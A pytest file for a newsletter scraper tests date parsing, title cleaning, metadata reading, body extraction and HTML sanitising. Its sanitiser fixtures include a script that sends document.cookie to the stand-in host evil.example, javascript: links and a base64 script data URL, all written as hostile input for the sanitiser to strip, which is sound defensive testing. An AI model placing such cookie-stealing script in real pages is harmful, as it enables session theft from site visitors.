"""Pure extraction: dates, titles, sanitising, declared metadata, trafilatura body and the whole issue."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta, timezone

import pytest
from lxml import html as lxml_html

from tomtalks_scraper.extraction.body import Body, drop_leading_title, run_trafilatura, word_count
from tomtalks_scraper.extraction.dates import to_utc_iso
from tomtalks_scraper.extraction.issue import ExtractionError, content_hash, extract_issue
from tomtalks_scraper.extraction.metadata import (
    PageMetadata,
    clean_text,
    from_json_ld,
    from_meta_tags,
    from_visible_markup,
    json_ld_objects,
    page_language,
    read_page_metadata,
)
from tomtalks_scraper.extraction.sanitize import sanitize_html
from tomtalks_scraper.extraction.titles import choose_title, strip_seo_year, strip_site_suffix
from tomtalks_scraper.items import DiscoveryHints

THIS_YEAR = datetime.now(UTC).year


def tree_of(markup: str) -> lxml_html.HtmlElement:
    return lxml_html.document_fromstring(markup)


def head_page(head: str, body: str = "<p>Body text.</p>", lang: str = "en") -> lxml_html.HtmlElement:
    return tree_of(
        f'<!DOCTYPE html><html lang="{lang}"><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'
    )


# Dates ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Tue, 05 Mar 2024 10:00:00 GMT", "2024-03-05T10:00:00Z"),
        ("Tue, 05 Mar 2024 10:00:00 +0100", "2024-03-05T09:00:00Z"),
        ("Tue, 05 Mar 2024 10:00:00 -0000", "2024-03-05T10:00:00Z"),
        ("5 Mar 2024 22:30:00 -0500", "2024-03-06T03:30:00Z"),
    ],
)
def test_to_utc_iso_reads_rfc822_feed_dates(value, expected):
    assert to_utc_iso(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2024-03-05T10:00:00+02:00", "2024-03-05T08:00:00Z"),
        ("2024-03-05T23:30:00-05:00", "2024-03-06T04:30:00Z"),
        ("2024-03-05T10:00:00Z", "2024-03-05T10:00:00Z"),
        ("2024-03-05T10:00:00.123456Z", "2024-03-05T10:00:00Z"),
        ("2024-03-05 10:00:00+00:00", "2024-03-05T10:00:00Z"),
    ],
)
def test_to_utc_iso_converts_iso_with_offsets_to_utc(value, expected):
    assert to_utc_iso(value) == expected


@pytest.mark.parametrize("value", ["2024-03-05T10:00:00", "2024-03-05 10:00:00"])
def test_to_utc_iso_takes_naive_iso_times_as_utc(value):
    assert to_utc_iso(value) == "2024-03-05T10:00:00Z"


def test_to_utc_iso_keeps_a_bare_date_without_inventing_midnight():
    assert to_utc_iso("2024-03-05") == "2024-03-05"
    assert to_utc_iso("  2024-03-05\n") == "2024-03-05"


def test_to_utc_iso_rejects_an_impossible_calendar_date():
    assert to_utc_iso("2024-02-30") is None


def test_to_utc_iso_accepts_leap_day():
    assert to_utc_iso("2024-02-29") == "2024-02-29"


@pytest.mark.parametrize("value", ["1709632800000", 1709632800000])
def test_to_utc_iso_reads_epoch_milliseconds(value):
    assert to_utc_iso(value) == "2024-03-05T10:00:00Z"


def test_to_utc_iso_formats_datetime_objects_in_utc():
    paris = timezone(timedelta(hours=1))
    assert to_utc_iso(datetime(2024, 3, 5, 10, 0, tzinfo=paris)) == "2024-03-05T09:00:00Z"
    assert to_utc_iso(datetime(2024, 3, 5, 10, 0)) == "2024-03-05T10:00:00Z"


@pytest.mark.parametrize(
    "value", [None, "", "   ", "garbage", "yesterday", "5 minutes ago", "March 2024", "2024-13-01T00:00:00Z", "N/A"]
)
def test_to_utc_iso_returns_none_for_unreadable_values(value):
    assert to_utc_iso(value) is None


@pytest.mark.parametrize(
    "value",
    [
        "1899-12-31T00:00:00Z",
        "1985-01-01",
        "0001-01-01T00:00:00Z",
        "Mon, 01 Jan 1800 00:00:00 GMT",
        f"{THIS_YEAR + 2}-01-01T00:00:00Z",
        f"{THIS_YEAR + 2}-06-01",
        "9999999999999",  # epoch ms in the year 2286
    ],
)
def test_to_utc_iso_returns_none_for_implausible_years(value):
    assert to_utc_iso(value) is None


def test_to_utc_iso_accepts_next_year_for_scheduled_issues():
    assert to_utc_iso(f"{THIS_YEAR + 1}-01-02") == f"{THIS_YEAR + 1}-01-02"


@pytest.mark.parametrize("value", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:30:00-05:00"])
def test_to_utc_iso_returns_none_for_out_of_range_placeholder_dates(value):
    assert to_utc_iso(value) is None


def test_to_utc_iso_keeps_basic_format_bare_date_as_a_date():
    assert to_utc_iso("20240305") == "2024-03-05"


# Titles ---------------------------------------------------------------------------------------------

SITE_NAMES = ["TomTalks", "www.tomtalks.example", "tomtalks"]


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("The chip crunch | TomTalks", "The chip crunch"),
        ("The chip crunch - TomTalks", "The chip crunch"),
        ("The chip crunch – tomtalks.example", "The chip crunch"),
        ("The chip crunch — TomTalks", "The chip crunch"),
        ("The chip crunch · TomTalks", "The chip crunch"),
        ("TomTalks - The chip crunch", "The chip crunch"),
        ("TomTalks | The chip crunch", "The chip crunch"),
    ],
)
def test_strip_site_suffix_removes_site_name_on_either_side(title, expected):
    assert strip_site_suffix(title, SITE_NAMES) == expected


@pytest.mark.parametrize(
    "title",
    [
        "Rust - the good parts",
        "Open source models - why small wins",
        "Deepfakes, ballots | and trust",
        "The chip crunch",
    ],
)
def test_strip_site_suffix_keeps_dash_that_is_part_of_the_title(title):
    assert strip_site_suffix(title, SITE_NAMES) == title


def test_strip_site_suffix_only_removes_the_last_part_naming_the_site():
    assert strip_site_suffix("Q&A - AI in sales | TomTalks", SITE_NAMES) == "Q&A - AI in sales"


def test_strip_site_suffix_keeps_short_leading_word_that_only_occurs_inside_the_host():
    assert strip_site_suffix("AI - the good parts", ["www.tomtalks.ai", "tomtalks"]) == "AI - the good parts"


def test_strip_seo_year_drops_year_the_body_never_mentions():
    title = "The real story behind Netflix's $900,000 AI job (2024)"
    body = "Netflix posted a job listing for an AI product manager with a salary of up to $900,000."
    assert strip_seo_year(title, body) == "The real story behind Netflix's $900,000 AI job"


def test_strip_seo_year_keeps_year_the_body_talks_about():
    title = "What changed in AI (2023)"
    body = "In 2023 the number of open models tripled."
    assert strip_seo_year(title, body) == title


def test_strip_seo_year_ignores_the_year_inside_a_repeated_title():
    title = "What changed in AI (2023)"
    body = "What changed in AI (2023)\nOpen models tripled and prices fell."
    assert strip_seo_year(title, body) == "What changed in AI"


def test_strip_seo_year_leaves_non_year_parentheses():
    assert strip_seo_year("Prompt engineering (part 2)", "no years") == "Prompt engineering (part 2)"


def test_choose_title_takes_first_non_empty_candidate_cleaned():
    title = choose_title([None, "   ", "The  chip\n crunch | TomTalks", "Other"], SITE_NAMES, "Chips are scarce.")
    assert title == "The chip crunch"


def test_choose_title_applies_site_suffix_and_seo_year_together():
    title = choose_title(["TomTalks - Homework is dead (2024)"], SITE_NAMES, "Essays written by machines.")
    assert title == "Homework is dead"


def test_choose_title_returns_none_without_candidates():
    assert choose_title([None, "", " \n "], SITE_NAMES, "body") is None


# Sanitising -----------------------------------------------------------------------------------------

HOSTILE_FRAGMENT = """
<div class="post" onclick="track()" style="color:red">
  <script>document.location='https://evil.example/?c='+document.cookie</script>
  <style>.post{display:none}</style>
  <iframe src="https://evil.example/frame">fallback iframe text</iframe>
  <noscript>noscript text</noscript>
  <p onmouseover="steal()">Read <a href="javascript:alert(1)">this</a>,
     <a href="JaVaScript:alert(2)">that</a> and
     <a href="https://tomtalks.example/next/" target="_blank">the next issue</a>.</p>
  <ul><li>first point</li><li>second point</li></ul>
  <ol start="3"><li>third</li></ol>
  <img src="https://cdn.tomtalks.example/chart.png" alt="Chip prices" onerror="steal()" width="600">
  <a href="mailto:tom@tomtalks.example">Write to me</a>
  <form action="https://evil.example/"><input name="email"></form>
  <!-- internal note -->
</div>
"""


def test_sanitize_html_removes_script_style_iframe_with_their_content():
    clean = sanitize_html(HOSTILE_FRAGMENT)
    for forbidden in ("<script", "document.cookie", "<style", "display:none", "<iframe", "fallback iframe text",
                      "noscript text", "<form", "<input"):
        assert forbidden not in clean


def test_sanitize_html_removes_event_handlers_style_attributes_and_comments():
    clean = sanitize_html(HOSTILE_FRAGMENT)
    assert not re.search(r"\son\w+=", clean)
    assert "style=" not in clean
    assert "internal note" not in clean


def test_sanitize_html_removes_javascript_urls_in_any_case():
    clean = sanitize_html(HOSTILE_FRAGMENT)
    assert "javascript:" not in clean.lower()
    assert ">this</a>" in clean and ">that</a>" in clean


def test_sanitize_html_keeps_links_images_and_lists():
    clean = sanitize_html(HOSTILE_FRAGMENT)
    assert 'href="https://tomtalks.example/next/"' in clean
    assert 'href="mailto:tom@tomtalks.example"' in clean
    assert '<img src="https://cdn.tomtalks.example/chart.png" alt="Chip prices" width="600">' in clean
    assert "<ul><li>first point</li><li>second point</li></ul>" in clean
    assert '<ol start="3"><li>third</li></ol>' in clean


def test_sanitize_html_marks_links_nofollow_and_drops_target():
    clean = sanitize_html('<a href="https://x.example/" target="_blank">x</a>')
    assert clean == '<a href="https://x.example/" rel="noopener noreferrer nofollow">x</a>'


def test_sanitize_html_drops_data_url_images():
    clean = sanitize_html('<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" alt="x">')
    assert "data:" not in clean


# Declared metadata ----------------------------------------------------------------------------------

YOAST_GRAPH = """<script type="application/ld+json" class="yoast-schema-graph">
{"@context":"https://schema.org","@graph":[
  {"@type":"WebPage","@id":"https://tomtalks.example/chip-crunch/","name":"The chip crunch - TomTalks"},
  {"@type":"Person","@id":"https://tomtalks.example/#/person/1","name":"Tom Example"},
  {"@type":["Article","BlogPosting"],"headline":"The chip crunch",
   "author":[{"@type":"Person","name":"Tom Example"},"https://www.linkedin.com/in/tom-example",{"name":"  Ann   Lee "}],
   "datePublished":"2024-03-05T10:00:00+01:00","dateModified":"2024-03-06T08:00:00+00:00",
   "description":"Why chips are scarce.","keywords":"AI, chips , supply chain,",
   "image":[{"@type":"ImageObject","url":"https://cdn.tomtalks.example/chips.jpg"}],
   "publisher":{"@type":"Organization","name":"TomTalks"}}
]}
</script>"""


def test_json_ld_objects_flattens_graph_members():
    types = [obj.get("@type") for obj in json_ld_objects(head_page(YOAST_GRAPH))]
    assert "WebPage" in types and "Person" in types and ["Article", "BlogPosting"] in types


def test_from_json_ld_reads_article_from_graph():
    meta = from_json_ld(head_page(YOAST_GRAPH))
    assert meta.is_article
    assert meta.title == "The chip crunch"
    assert meta.published_at == "2024-03-05T09:00:00Z"
    assert meta.updated_at == "2024-03-06T08:00:00Z"
    assert meta.description == "Why chips are scarce."
    assert meta.tags == ["AI", "chips", "supply chain"]
    assert meta.image == "https://cdn.tomtalks.example/chips.jpg"
    assert meta.site_name == "TomTalks"


def test_from_json_ld_ignores_author_given_as_url():
    assert from_json_ld(head_page(YOAST_GRAPH)).authors == ["Tom Example", "Ann Lee"]


def test_from_json_ld_reads_top_level_list_and_skips_non_articles():
    block = """<script type="application/ld+json">[
      {"@type":"BreadcrumbList","name":"Home > Posts"},
      {"@type":"NewsArticle","headline":"EU AI Act: the fine print","author":"Ann Lee",
       "datePublished":"2024-02-01","image":"https://cdn.example/eu.png","keywords":["policy","EU"]}
    ]</script>"""
    meta = from_json_ld(head_page(block))
    assert meta.title == "EU AI Act: the fine print"
    assert meta.authors == ["Ann Lee"]
    assert meta.published_at == "2024-02-01"
    assert meta.image == "https://cdn.example/eu.png"
    assert meta.tags == ["policy", "EU"]


def test_json_ld_objects_skips_broken_block_and_reads_the_next():
    blocks = """<script type="application/ld+json">{"@type": "BlogPosting", "headline": "broken", </script>
    <script type="application/ld+json">{"@type": "BlogPosting", "headline": "Second block"}</script>"""
    assert [obj["headline"] for obj in json_ld_objects(head_page(blocks))] == ["Second block"]
    assert from_json_ld(head_page(blocks)).title == "Second block"


def test_json_ld_objects_unwraps_cdata():
    block = """<script type="application/ld+json"><![CDATA[
    {"@context":"https://schema.org","@type":"BlogPosting","headline":"Inside CDATA"}
    ]]></script>"""
    assert from_json_ld(head_page(block)).title == "Inside CDATA"


def test_json_ld_objects_unwraps_cdata_with_js_comment_markers():
    block = """<script type="application/ld+json">//<![CDATA[
    {"@context":"https://schema.org","@type":"BlogPosting","headline":"Inside commented CDATA"}
    //]]></script>"""
    assert from_json_ld(head_page(block)).title == "Inside commented CDATA"


def test_from_json_ld_is_empty_for_page_without_article():
    block = '<script type="application/ld+json">{"@type":"WebSite","name":"TomTalks"}</script>'
    assert from_json_ld(head_page(block)) == PageMetadata()


META_HEAD = """
<meta name="twitter:title" content="Twitter title">
<meta property="og:title" content="OG title">
<meta name="dc.date" content="2020-01-01">
<meta property="article:published_time" content="2024-03-05T10:00:00+01:00">
<meta property="article:modified_time" content="2024-03-06T10:00:00Z">
<meta property="og:description" content="   ">
<meta name="description" content="Plain description.">
<meta property="og:site_name" content="TomTalks">
<meta property="og:image" content="https://cdn.tomtalks.example/og.png">
<meta property="og:type" content="Article">
<meta property="article:tag" content="AI"><meta property="article:tag" content=" ">
<meta property="article:tag" content="Chips">
<link rel="canonical" href="https://tomtalks.example/chip-crunch/">
"""


def test_from_meta_tags_follows_key_priority_not_document_order():
    meta = from_meta_tags(head_page(META_HEAD))
    assert meta.title == "OG title"
    assert meta.published_at == "2024-03-05T09:00:00Z"
    assert meta.updated_at == "2024-03-06T10:00:00Z"


def test_from_meta_tags_skips_blank_values_for_the_next_key():
    assert from_meta_tags(head_page(META_HEAD)).description == "Plain description."


def test_from_meta_tags_reads_site_image_canonical_tags_and_og_type():
    meta = from_meta_tags(head_page(META_HEAD))
    assert meta.site_name == "TomTalks"
    assert meta.image == "https://cdn.tomtalks.example/og.png"
    assert meta.canonical_url == "https://tomtalks.example/chip-crunch/"
    assert meta.tags == ["AI", "Chips"]
    assert meta.is_article


def test_from_meta_tags_ignores_author_given_as_url_and_keeps_a_name():
    assert from_meta_tags(head_page('<meta name="author" content="https://facebook.com/tom.example">')).authors == []
    assert from_meta_tags(head_page('<meta name="author" content="Tom Example">')).authors == ["Tom Example"]


def test_from_meta_tags_website_is_not_an_article():
    assert not from_meta_tags(head_page('<meta property="og:type" content="website">')).is_article


def test_from_visible_markup_reads_only_publication_time_elements():
    body = """<p>Updated <time datetime="2024-04-01T00:00:00Z">later</time></p>
    <span>Posted <time class="entry-date published" datetime="2024-03-05T10:00:00+01:00">5 March</time></span>"""
    assert from_visible_markup(head_page("", body)).published_at == "2024-03-05T09:00:00Z"
    assert from_visible_markup(head_page("", '<time datetime="2024-04-01">x</time>')).published_at is None


def test_read_page_metadata_prefers_json_ld_then_meta_then_visible_time():
    head = YOAST_GRAPH + META_HEAD
    body = '<time itemprop="datePublished" datetime="2019-01-01T00:00:00Z">old</time>'
    meta = read_page_metadata(head_page(head, body))
    assert meta.title == "The chip crunch"  # JSON-LD headline beats og:title
    assert meta.published_at == "2024-03-05T09:00:00Z"
    assert meta.canonical_url == "https://tomtalks.example/chip-crunch/"  # only meta tags have it


def test_read_page_metadata_falls_back_to_visible_time_when_nothing_else_declares_a_date():
    body = '<article><time itemprop="datePublished" datetime="2024-01-15T08:00:00Z">15 Jan</time></article>'
    meta = read_page_metadata(head_page('<meta property="og:title" content="Plain page">', body))
    assert meta.published_at == "2024-01-15T08:00:00Z"


def test_page_metadata_fill_from_keeps_own_values():
    mine = PageMetadata(title="Adapter title", authors=[])
    mine.fill_from(PageMetadata(title="Other", authors=["Ann Lee"], published_at="2024-03-05"))
    assert (mine.title, mine.authors, mine.published_at) == ("Adapter title", ["Ann Lee"], "2024-03-05")


@pytest.mark.parametrize(
    ("lang", "head", "header", "expected"),
    [
        ("en-GB", "", None, "en"),
        ("pt_BR", "", None, "pt"),
        ("", '<meta property="og:locale" content="fr_FR">', None, "fr"),
        ("", "", "de-DE, en;q=0.8", "de"),
        ("english", "", None, None),
        ("", "", None, None),
    ],
)
def test_page_language_returns_primary_subtag(lang, head, header, expected):
    lang_attr = f' lang="{lang}"' if lang else ""
    tree = tree_of(f"<html{lang_attr}><head>{head}</head><body><p>x</p></body></html>")
    assert page_language(tree, header) == expected


def test_clean_text_collapses_whitespace_and_maps_empty_to_none():
    assert clean_text("  The\n\tchip   crunch ") == "The chip crunch"
    assert clean_text(" \n ") is None
    assert clean_text(None) is None


# Body -----------------------------------------------------------------------------------------------

PARAGRAPHS = [
    "Every sales team I have spoken to this quarter is piloting an AI copilot. The pitch is simple: the assistant "
    "drafts the follow-up email, summarises the call and updates the CRM while the rep moves on to the next call.",
    "The early numbers are encouraging but uneven. Teams that wrote down their playbook before switching the tool "
    "on saw the biggest gains, because the copilot had something concrete to imitate instead of guessing.",
    "The failure mode is just as clear. When managers measure activity instead of outcomes, the copilot floods the "
    "pipeline with polite, generic messages that buyers learn to ignore within weeks.",
    "My advice for the next quarter: pick one workflow, measure the time it saves honestly, and keep a human in the "
    "loop for anything a customer will read. The tools will get better; your judgement does not scale by itself.",
]


def blog_page(paragraphs_html: str, *, head_extra: str = "", title: str = "AI copilots in sales teams | TomTalks",
              h1: str = "AI copilots in sales teams") -> str:
    """A WordPress-like issue page with header, nav, sidebar and footer chrome."""
    return f"""<!DOCTYPE html>
<html lang="en-GB">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{title}</title>
<meta property="og:type" content="article">
<meta property="og:site_name" content="TomTalks">
<meta property="og:description" content="What happens when every rep gets an assistant.">
<meta property="article:published_time" content="2024-03-05T10:00:00+01:00">
<meta property="article:tag" content="AI"><meta property="article:tag" content="Sales">
<meta name="author" content="Meta Author">
<link rel="canonical" href="https://tomtalks.example/ai-copilots-in-sales-teams/">
<script type="application/ld+json">{{"@context":"https://schema.org","@type":"BlogPosting",
 "author":[{{"@type":"Person","name":"Tom Example"}},{{"@type":"Person","name":"Ann Lee"}}],
 "publisher":{{"@type":"Organization","name":"TomTalks"}}}}</script>
<script>window.dataLayer = window.dataLayer || []; gtag('config', 'G-XXXX');</script>
{head_extra}
</head>
<body class="post-template">
<header class="site-header">
  <a href="/" class="logo">TomTalks</a>
  <nav class="main-nav"><ul><li><a href="/">Home</a></li><li><a href="/archive/">Archive</a></li>
  <li><a href="/about/">About Tom</a></li><li><a href="/subscribe/">Subscribe</a></li></ul></nav>
</header>
<main id="content">
<article class="post">
  <h1 class="post-title">{h1}</h1>
  <p class="byline">By Tom Example · <time datetime="2024-03-05">5 March 2024</time></p>
  {paragraphs_html}
</article>
</main>
<aside class="sidebar"><h3>Popular issues</h3><ul><li><a href="/the-chip-crunch/">The chip crunch</a></li>
<li><a href="/homework-is-dead/">Homework is dead</a></li></ul></aside>
<footer class="site-footer"><p>© 2024 TomTalks. All rights reserved.</p>
<p><a href="/privacy/">Privacy policy</a> · <a href="/terms/">Terms of service</a></p></footer>
</body></html>"""


PLAIN_PAGE = blog_page("\n".join(f"<p>{p}</p>" for p in PARAGRAPHS))
CHROME_WORDS = ("All rights reserved", "Privacy policy", "Terms of service", "Popular issues", "About Tom",
                "Homework is dead", "dataLayer")


def test_run_trafilatura_renders_text_markdown_and_sanitised_html():
    body = run_trafilatura(tree_of(blog_page(
        f"<p>{PARAGRAPHS[0]} See <a href='https://tomtalks.example/the-chip-crunch/'>the chip crunch</a>.</p>"
        + "".join(f"<p>{p}</p>" for p in PARAGRAPHS[1:])
        + "<ul><li>Write the playbook first</li><li>Measure outcomes</li></ul>"
        + "<p><script>alert('inline')</script>Final words of the issue stay in the body text.</p>"
    )), "https://tomtalks.example/ai-copilots-in-sales-teams/")
    assert "See the chip crunch." in body.text  # links read as plain words in the text rendering
    assert "[the chip crunch](https://tomtalks.example/the-chip-crunch/)" in body.markdown
    assert '<a href="https://tomtalks.example/the-chip-crunch/"' in body.html
    assert "<li>Write the playbook first</li>" in body.html
    assert "Final words of the issue stay in the body text." in body.text
    assert "alert(" not in body.html and "<script" not in body.html


def test_run_trafilatura_leaves_out_page_chrome():
    body = run_trafilatura(tree_of(PLAIN_PAGE), "https://tomtalks.example/ai-copilots-in-sales-teams/")
    assert body.text.splitlines()[:2] == ["AI copilots in sales teams", PARAGRAPHS[0]]  # h1 stays until dropped
    for chrome in CHROME_WORDS:
        assert chrome not in body.text


def test_drop_leading_title_removes_repeated_heading_from_all_renderings():
    body = Body(
        text="The chip crunch!\nChips are scarce.",
        markdown="# The chip crunch!\n\nChips are scarce.",
        html="<h1>The <em>chip</em> crunch!</h1><p>Chips are scarce.</p>",
    )
    result = drop_leading_title(body, [None, "The chip crunch"])
    assert (result.text, result.markdown, result.html) == ("Chips are scarce.", "Chips are scarce.",
                                                          "<p>Chips are scarce.</p>")


def test_drop_leading_title_finds_the_title_after_a_cover_image():
    """trafilatura puts a cover image above the heading in Markdown and HTML; the plain text has no image."""
    body = Body(
        text="The chip crunch\nChips are scarce.",
        markdown="![A wafer](https://img.example/wafer.jpg)\n\n# The chip crunch\n\nChips are scarce.",
        html='<p><img src="https://img.example/wafer.jpg" alt="A wafer"></p><h1>The chip crunch</h1>'
             "<p>Chips are scarce.</p>",
    )
    result = drop_leading_title(body, ["The chip crunch"])
    assert result.text == "Chips are scarce."
    assert result.markdown == "![A wafer](https://img.example/wafer.jpg)\n\nChips are scarce."
    assert result.html == '<p><img src="https://img.example/wafer.jpg" alt="A wafer"></p><p>Chips are scarce.</p>'


def test_drop_leading_title_keeps_body_whose_first_line_is_not_the_title():
    body = Body(text="Chips are scarce.\nThe chip crunch", markdown="Chips are scarce.",
                html="<p>Chips are scarce.</p><h2>The chip crunch</h2>")
    result = drop_leading_title(body, ["The chip crunch"])
    assert result.text == "Chips are scarce.\nThe chip crunch"
    assert result.html == "<p>Chips are scarce.</p><h2>The chip crunch</h2>"


def test_word_count_counts_words_not_punctuation():
    assert word_count("Chips are scarce — and prices, at last, are falling.") == 9
    assert word_count("  \n ") == 0


# Whole issue ----------------------------------------------------------------------------------------

ISSUE_URL = "https://tomtalks.example/ai-copilots-in-sales-teams/"


@pytest.fixture(scope="module")
def issue():
    return extract_issue(PLAIN_PAGE, ISSUE_URL + "?utm_source=linkedin")


def test_extract_issue_title_has_no_site_suffix(issue):
    assert issue.title == "AI copilots in sales teams"


def test_extract_issue_takes_authors_from_json_ld_over_meta_author(issue):
    assert issue.authors == ["Tom Example", "Ann Lee"]
    assert issue.to_dict()["author"] == "Tom Example, Ann Lee"


def test_extract_issue_normalises_published_time_to_utc(issue):
    assert issue.published_at == "2024-03-05T09:00:00Z"


def test_extract_issue_reads_declared_metadata(issue):
    assert issue.canonical_url == ISSUE_URL
    assert issue.site_name == "TomTalks"
    assert issue.language == "en"
    assert issue.tags == ["AI", "Sales"]
    assert issue.description == "What happens when every rep gets an assistant."
    assert issue.platform == "generic"
    assert issue.extractor == "tomtalks-generic+trafilatura"


def test_extract_issue_body_has_article_text_without_chrome_or_title(issue):
    assert issue.body_text.startswith("Every sales team I have spoken to")
    assert "your judgement does not scale by itself." in issue.body_text
    assert not issue.body_text.startswith("AI copilots in sales teams")
    for chrome in CHROME_WORDS:
        assert chrome not in issue.body_text
        assert chrome not in issue.body_html


def test_extract_issue_counts_words_of_the_body(issue):
    assert issue.word_count == word_count(" ".join(PARAGRAPHS)) > 100


def test_extract_issue_content_hash_is_sha256_hex_of_the_text(issue):
    assert re.fullmatch(r"[0-9a-f]{64}", issue.content_hash)
    assert issue.content_hash == content_hash(issue.body_text)


def test_extract_issue_content_hash_is_equal_for_same_text_in_other_markup(issue):
    nested = "\n".join(
        f"<div class='wp-block-group'><p>\n   <span class='x'>{p.replace('. ', '.   ')}</span>\n</p></div>"
        for p in PARAGRAPHS
    )
    other = extract_issue(blog_page(nested), ISSUE_URL)
    assert other.content_hash == issue.content_hash


def test_extract_issue_content_hash_changes_when_the_text_changes(issue):
    edited = blog_page("\n".join(f"<p>{p}</p>" for p in [*PARAGRAPHS[:-1], "A different closing paragraph."]))
    assert extract_issue(edited, ISSUE_URL).content_hash != issue.content_hash


def test_content_hash_folds_whitespace():
    assert content_hash("Chips are\n\n scarce.") == content_hash("Chips are scarce.")
    assert content_hash("Chips are scarce.") != content_hash("Chips are scarce!")


def test_extract_issue_uses_discovery_hints_when_page_declares_nothing():
    page = """<html><head><title>Untitled</title></head><body><main><article>
    <p>Posted on 1 January 2018.</p>""" + "".join(f"<p>{p}</p>" for p in PARAGRAPHS) + """
    </article></main></body></html>"""
    hints = DiscoveryHints(title="Feed title for the issue", author="Feed Author",
                           published_at="2024-03-05T09:00:00Z", updated_at="2024-03-06T00:00:00Z", source="feed")
    result = extract_issue(page, "https://blog.example.com/p/1", hints=hints)
    assert result.title == "Feed title for the issue"
    assert result.authors == ["Feed Author"]
    assert result.published_at == "2024-03-05T09:00:00Z"
    assert result.updated_at == "2024-03-06T00:00:00Z"


def test_extract_issue_never_guesses_a_date_from_running_text():
    page = """<html><head><title>Notes</title></head><body><article>
    <p>Posted on 1 January 2018.</p>""" + "".join(f"<p>{p}</p>" for p in PARAGRAPHS) + """
    </article></body></html>"""
    assert extract_issue(page, "https://blog.example.com/notes").published_at is None


def test_extract_issue_accepts_xhtml_with_xml_declaration():
    page = '<?xml version="1.0" encoding="utf-8"?>\n' + PLAIN_PAGE.replace("<!DOCTYPE html>\n", "")
    assert extract_issue(page, ISSUE_URL).title == "AI copilots in sales teams"


def test_extract_issue_with_unknown_platform_name_raises_key_error():
    with pytest.raises(KeyError, match="myspace"):
        extract_issue(PLAIN_PAGE, ISSUE_URL, platform="myspace")


@pytest.mark.parametrize(
    ("page", "message"),
    [
        ("", "empty"),
        ("  \n\t ", "empty"),
        ("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00<html>", "binary"),
        ("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\x00<< /Type /Catalog >>", "binary"),
        ("Just a plain text file.\nNo markup anywhere in it, only words.", "no HTML markup"),
    ],
)
def test_extract_issue_raises_extraction_error_for_unreadable_input(page, message):
    with pytest.raises(ExtractionError, match=message):
        extract_issue(page, "https://blog.example.com/file")


def test_run_trafilatura_markdown_keeps_no_unsafe_link_or_image() -> None:
    """The Markdown is cleaned like the HTML: a ``javascript:`` link is its words, a ``data:`` image goes."""
    page = tree_of(
        "<html><body><article><h1>Safe links</h1>"
        "<p>The first paragraph is long enough to be kept as the body of this article, with a "
        '<a href="javascript:alert(document.cookie)">harmless looking link</a> in the middle of it.</p>'
        '<p>A second paragraph links <a href="https://example.com/report">the report</a> and shows a picture.</p>'
        '<p><img src="data:text/html;base64,PHNjcmlwdD4=" alt="pixel"></p>'
        "<p>The third paragraph closes the article with a few more ordinary words for the extractor.</p>"
        "</article></body></html>"
    )
    body = run_trafilatura(page, "https://tomtalks.example/safe-links/")
    assert "javascript:" not in body.markdown and "data:text" not in body.markdown
    assert "harmless looking link in the middle" in body.markdown
    assert "[the report](https://example.com/report)" in body.markdown


def test_json_ld_author_given_by_reference_is_the_person_it_names() -> None:
    """``"author": {"@id": …}`` names a ``Person`` node of the ``@graph`` (Yoast, Rank Math): every adapter
    reads it through the shared JSON-LD reader, not only WordPress."""
    graph = {"@context": "https://schema.org", "@graph": [
        {"@type": "BlogPosting", "@id": "https://letters.example/p/one#article", "headline": "Issue one",
         "author": [{"@id": "https://letters.example/#/person/ada"}, {"@id": "https://letters.example/#/gone"}],
         "publisher": {"@id": "https://letters.example/#org"}, "datePublished": "2024-03-05T10:00:00+00:00"},
        {"@type": "Person", "@id": "https://letters.example/#/person/ada", "name": "Ada Lovelace"},
        {"@type": "Organization", "@id": "https://letters.example/#org", "name": "Letters Weekly"},
    ]}
    page = head_page(f'<script type="application/ld+json">{json.dumps(graph)}</script>')
    meta = from_json_ld(page)
    assert meta.authors == ["Ada Lovelace"]  # the unknown reference is no name, and no URL is taken for one
    assert meta.site_name == "Letters Weekly"
    issue = extract_issue(lxml_html.tostring(page, encoding="unicode"), "https://letters.example/p/one",
                          platform="ghost")
    assert issue.authors == ["Ada Lovelace"]


def test_a_received_email_names_its_newsletter_in_its_footer() -> None:
    """Saved e-mails have no From or List-Id header: the footer's wording around the name is read."""
    email = ("<html><body><table role='presentation'><tr><td><h1>Issue 12</h1>"
             "<p>The whole week in one e-mail, with enough words to be an issue of a newsletter.</p>"
             "<p>Thanks for subscribing to The Weekly Ledger. This post is public, so feel free to share it.</p>"
             "<p>© 2024 Ada Lovelace · <a href='https://ledger.example/unsubscribe'>Unsubscribe</a></p>"
             "</td></tr></table></body></html>")
    issue = extract_issue(email, "https://ledger.example/p/issue-12")
    assert issue.newsletter == "The Weekly Ledger"
    web_page = email.replace("Unsubscribe", "Archive")  # the same words on a web page with no unsubscribe line
    assert extract_issue(web_page, "https://ledger.example/p/issue-12").newsletter is None


def test_choose_title_drops_a_suffix_when_the_rest_is_the_pages_heading():
    """No site name is declared anywhere; the ``<h1>`` shows which part of the og:title is the title."""
    title = choose_title(["The Paradox of Effort | The Curiosity Chronicle", None, "The Paradox of Effort"],
                         ["sahilbloom.com"], "Body.")
    assert title == "The Paradox of Effort"
    # a title whose dash is its own keeps it, heading or not
    assert choose_title(["Rust - the good parts", "Rust - the good parts"], ["blog.example"], "") == \
        "Rust - the good parts"
    assert choose_title(["Rust - the good parts", "Rust"], ["blog.example"], "") == "Rust - the good parts"


def _real_pages(shared) -> list[tuple[str, str]]:
    import gzip

    pages = [(path.read_text("utf-8", errors="replace"), f"https://{path.parent.name}.example/{path.stem}")
             for path in sorted((shared / "corpus" / "real").rglob("*.html"))]
    benchmark = shared / "benchmarks" / "article-extraction" / "html"
    pages += [(gzip.decompress(path.read_bytes()).decode("utf-8", "replace"), f"https://bench.example/{path.stem}")
              for path in sorted(benchmark.glob("*.html.gz"))]
    return pages


def test_skipping_readability_where_it_cannot_win_changes_no_issue(shared, monkeypatch: pytest.MonkeyPatch) -> None:
